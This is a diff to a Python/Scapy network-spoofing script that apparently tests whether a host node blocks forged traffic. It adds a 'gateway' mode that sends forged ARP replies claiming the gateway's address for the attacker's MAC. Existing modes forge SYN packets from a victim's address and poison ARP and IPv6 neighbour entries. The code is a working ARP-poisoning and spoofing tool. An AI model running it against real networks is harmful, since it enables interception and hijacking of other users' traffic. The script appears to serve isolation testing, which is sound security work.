@@ -14,6 +14,7 @@ two things the attacker can write from its own port:
 - `--mode na`: on IPv6, the node's neighbour entry for the victim's address (unsolicited
   neighbour advertisements, override flag set, naming the attacker's MAC).
 
+`--mode gateway` claims the gateway's address to the victim (ARP replies) and stops there.
 `--mode syn` sends one forged SYN from the victim's address and takes over nothing (on a
 routed link the answer goes to the victim's own link; whether the SYN got past the node's
 first hook shows in its connection tracking).
@@ -49,7 +50,7 @@ METADATA = "169.254.169.254"
 def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("--iface", default="eth0")
-    parser.add_argument("--mode", choices=["arp", "na", "mac", "lldp", "syn"], required=True)
+    parser.add_argument("--mode", choices=["arp", "na", "mac", "lldp", "syn", "gateway"], required=True)
     parser.add_argument("--victim-ip", required=True)
     parser.add_argument("--victim-mac", required=True)
     parser.add_argument("--gateway-ip", required=True)
@@ -90,6 +91,10 @@ def main():
             # "Who has the gateway? Tell <victim IP> at <attacker MAC>": the node learns it.
             claim = ARP(op=1, hwsrc=own_mac, psrc=args.victim_ip, hwdst="00:00:00:00:00:00", pdst=args.gateway_ip)
             sock.send(tagged(Ether(src=own_mac, dst="ff:ff:ff:ff:ff:ff"), claim_tags) / claim)
+        elif args.mode == "gateway":
+            # An ARP reply to the victim: "the gateway is at the attacker's MAC".
+            claim = ARP(op=2, hwsrc=own_mac, psrc=args.gateway_ip, hwdst=args.victim_mac, pdst=args.victim_ip)
+            sock.send(Ether(src=own_mac, dst=args.victim_mac) / claim)
         elif args.mode == "lldp":
             # To LLDP's group address, which the bridge learns from with no netfilter hook.
             sock.send(Ether(src=args.victim_mac, dst="01:80:c2:00:00:0e", type=0x88CC) / Raw(b"\0" * 46))
@@ -116,6 +121,9 @@ def main():
     target_ip, target_port = args.target.rsplit(":", 1)
     target_ip, target_port = target_ip.strip("[]"), int(target_port)
     layer = IPv6 if ":" in args.victim_ip else IP
+    if args.mode == "gateway":
+        print(json.dumps({"claimed": args.gateway_ip}))
+        return 0
     frame = tagged(Ether(src=source_mac, dst=args.gateway_mac), args.vlan_tags) / layer(src=args.victim_ip, dst=target_ip)
     sport, seq = random.randint(20000, 60000), random.randint(0, 2**31)
 
